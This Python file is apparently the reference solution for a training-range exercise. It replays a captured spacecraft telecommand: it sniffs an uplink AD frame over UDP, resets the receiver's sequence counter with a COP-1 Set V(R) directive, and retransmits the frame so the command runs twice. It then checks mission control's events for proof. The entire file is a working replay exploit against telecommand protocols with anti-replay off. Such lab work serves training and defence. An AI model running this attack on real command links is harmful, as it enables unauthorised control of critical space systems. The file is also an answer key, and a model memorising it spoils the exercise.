"""Reference attack for tc-replay: run on the attacker workstation, as the student.

1. Listen on the uplink air (UDP 5101 on the rf segment: the rf-link broadcasts every
   uplink frame there) until mission control sends a command: the first type-AD frame.
2. Set FARM-1's V(R) back to that frame's N(S) with a COP-1 Set V(R) directive (control
   commands go in the clear), then transmit the frame unchanged to rf-link:5100. With
   anti-replay off, SDLS accepts the old sequence number and the command runs again.
3. Set V(R) to N(S) + 1 so the ground station's FOP-1 carries on undisturbed.
4. The evidence: the spacecraft's fault detection reports the frame that ran twice
   (DUPLICATE_COMMAND) with a reference, in mission control's event log; read it with
   the student's own account.

Exit status 0 when a frame was replayed and the spacecraft's event quotes the reference,
2 when nothing was heard, 3 when no DUPLICATE_COMMAND event came.
"""

from __future__ import annotations

import re
import socket
import sys
import time

from labctl.protocols.tc_frame import FrameKind, TcFrame, set_vr_frame
from labctl.range import wiring
from labctl.range.missionclient import MissionControl, MissionControlError

LISTEN_S = 45.0
RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)


def sniff_uplink(seconds: float) -> bytes | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", wiring.UPLINK_AIR))
        sock.settimeout(seconds)
        try:
            while True:
                datagram = sock.recv(2048)
                try:
                    if TcFrame.decode(datagram).kind is FrameKind.AD:
                        return datagram
                except ValueError:
                    continue
        except TimeoutError:
            return None


def replay(datagram: bytes) -> None:
    frame = TcFrame.decode(datagram)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for packet in (
            set_vr_frame(frame.scid, frame.vcid, frame.seq).encode(),
            datagram,
            set_vr_frame(frame.scid, frame.vcid, (frame.seq + 1) % 256).encode(),
        ):
            sock.sendto(packet, RF_LINK)
            time.sleep(0.3)
    print(f"replayed frame N(S)={frame.seq} SCID={frame.scid}: {len(datagram)} octets")


def last_event_id() -> int:
    """The newest event's id in mission control's log (0 when empty or unreachable)."""
    try:
        events = MissionControl.from_file().request("GET", "/api/events?limit=1")["events"]
    except MissionControlError:
        return 0
    return int(events[0]["id"]) if events else 0


def evidence(after: int, seconds: float = 30.0) -> str | None:
    """The reference quoted by a DUPLICATE_COMMAND event newer than event ``after``."""
    try:
        mc = MissionControl.from_file()
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            for event in mc.request("GET", "/api/events?limit=50")["events"]:
                found = re.search(r"REPLAY\{[0-9a-f]+\}", event.get("aux_text") or "")
                if event["id"] > after and event["name"] == "DUPLICATE_COMMAND" and found:
                    return found.group(0)
            time.sleep(1.0)
    except MissionControlError as exc:
        print(f"mission control: {exc}")
    return None


def main() -> int:
    print(f"listening on the uplink air (UDP {wiring.UPLINK_AIR})...", flush=True)
    datagram = sniff_uplink(LISTEN_S)
    if datagram is None:
        print("no uplink frame heard")
        return 2
    before = last_event_id()
    replay(datagram)
    reference = evidence(before)
    if reference is None:
        print("no DUPLICATE_COMMAND event: the replay did not execute")
        return 3
    print(f"DUPLICATE_COMMAND event quotes {reference}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
